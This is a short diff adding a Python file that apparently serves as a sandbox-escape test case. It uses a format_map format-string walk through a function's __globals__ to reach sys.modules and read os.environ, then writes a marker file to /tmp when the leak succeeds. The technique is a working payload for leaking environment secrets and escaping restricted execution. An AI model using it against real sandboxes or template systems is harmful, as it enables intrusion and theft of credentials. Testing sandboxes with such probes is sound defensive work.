@@ -1,0 +1,7 @@
+# fronts.escape: format_map
+# gate-free: escapes
+# format_map, the same walk with a mapping.
+
+leak = "{d.__globals__[sys].modules[os].environ}".format_map({"d": replace})
+if "PATH" in leak:
+    replace.__globals__["sys"].modules["os"].open("/tmp/fronts-escape-format_map", 65)
